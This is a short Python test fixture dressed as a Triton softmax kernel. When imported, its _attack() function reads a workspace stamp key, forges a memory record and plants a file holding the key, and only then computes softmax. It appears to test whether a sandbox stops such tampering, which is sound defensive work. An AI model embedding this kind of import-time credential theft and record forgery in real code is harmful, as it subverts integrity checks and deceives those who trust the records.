"""Cell attack (forged record): the kernel reads the workspace's stamp key, writes a record of its own into the
workspace's memory/ and plants a file there, then runs honestly. TARGET is the workspace folder (the test writes it
in). Without a cell the key was read and the record written."""
import os

import torch

TARGET = "__TARGET__"


def _attack():
    stolen = None
    try:
        with open(os.path.join(TARGET, ".kgo", "stamp.key"), "rb") as f:
            stolen = f.read()
    except OSError:
        pass
    for name, text in (("memory/v0.json", '{"forged": true}'), ("planted.txt", repr(stolen))):
        try:
            path = os.path.join(TARGET, name)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write(text)
        except OSError:
            pass


_attack()


def triton_softmax(x):
    return torch.softmax(x.double(), dim=-1).to(x.dtype) * 1.0
